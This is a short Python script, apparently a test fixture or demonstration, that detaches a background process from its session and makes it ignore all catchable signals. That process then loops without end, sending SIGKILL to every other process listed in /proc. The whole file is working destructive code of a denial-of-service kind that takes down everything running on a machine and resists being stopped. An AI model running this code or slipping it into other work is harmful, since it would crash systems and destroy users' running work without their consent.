"""Leaves a process behind that has left its session, and ends all others a little later."""

import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(_number, signal.SIG_IGN)
        __import__("ctypes").CDLL(None).prctl(1, 0, 0, 0, 0)
        time.sleep(0.2)
        while True:
            for _process in filter(str.isdigit, os.listdir("/proc")):
                if int(_process) != os.getpid():
                    try:
                        os.kill(int(_process), signal.SIGKILL)
                    except OSError:
                        pass
    os._exit(0)
os.wait()
